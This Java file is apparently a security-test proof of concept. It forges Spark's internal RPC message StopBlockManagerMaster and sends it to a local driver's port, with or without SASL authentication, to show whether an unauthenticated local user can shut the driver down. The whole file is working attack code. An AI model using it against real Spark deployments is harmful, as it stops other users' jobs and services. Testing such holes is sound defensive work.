// The attack on a Spark driver's internal RPC port: a client of Spark's own netty RPC, in its own JVM,
// sends StopBlockManagerMaster to the driver's BlockManagerMaster endpoint. Without a secret it speaks
// without the SASL handshake, as any local user could; with AIRFLOW_EPOCHS_ATTACK_SECRET set it
// authenticates first (the control that shows the same message does stop the driver when it gets in).
//
// Usage: java -cp <this folder>:<pyspark jars>/* ForgedStopBlockManagerMaster <driver port>
// Prints "REPLY <answer>" when the driver answered, "REFUSED <exception>" when it did not.

import org.apache.spark.SecurityManager;
import org.apache.spark.SparkConf;
import org.apache.spark.rpc.RpcAddress;
import org.apache.spark.rpc.RpcEndpointAddress;
import org.apache.spark.rpc.RpcEndpointRef;
import org.apache.spark.rpc.RpcEnv;
import org.apache.spark.rpc.RpcEnv$;
import org.apache.spark.rpc.netty.NettyRpcEndpointRef;
import org.apache.spark.rpc.netty.NettyRpcEnv;
import org.apache.spark.storage.BlockManagerMessages;

public class ForgedStopBlockManagerMaster {
    public static void main(String[] args) {
        int port = Integer.parseInt(args[0]);
        String secret = System.getenv("AIRFLOW_EPOCHS_ATTACK_SECRET");
        SparkConf conf = new SparkConf(false)
            .set("spark.rpc.askTimeout", "20s")
            .set("spark.network.timeout", "20s");
        if (secret != null) {
            conf.set("spark.authenticate", "true").set("spark.authenticate.secret", secret);
        }
        SecurityManager security = new SecurityManager(
            conf, scala.Option.empty(), org.apache.spark.internal.config.package$.MODULE$.AUTH_SECRET_FILE());
        RpcEnv env = RpcEnv$.MODULE$.create("intruder", "127.0.0.1", 0, conf, security, true);
        int status = 0;
        try {
            // Built by hand rather than through setupEndpointRef, whose existence check would be the first
            // message refused: this way the forged StopBlockManagerMaster is what goes on the wire.
            RpcEndpointRef master = new NettyRpcEndpointRef(
                conf, new RpcEndpointAddress(new RpcAddress("127.0.0.1", port), "BlockManagerMaster"),
                (NettyRpcEnv) env);
            Object reply = master.askSync(
                BlockManagerMessages.StopBlockManagerMaster$.MODULE$, scala.reflect.ClassTag$.MODULE$.Any());
            System.out.println("REPLY " + reply);
        } catch (Throwable refused) {
            Throwable cause = refused;
            while (cause.getCause() != null) {
                cause = cause.getCause();
            }
            System.out.println("REFUSED " + refused + " / " + cause);
            status = 3;
        } finally {
            env.shutdown();
        }
        System.exit(status);
    }
}
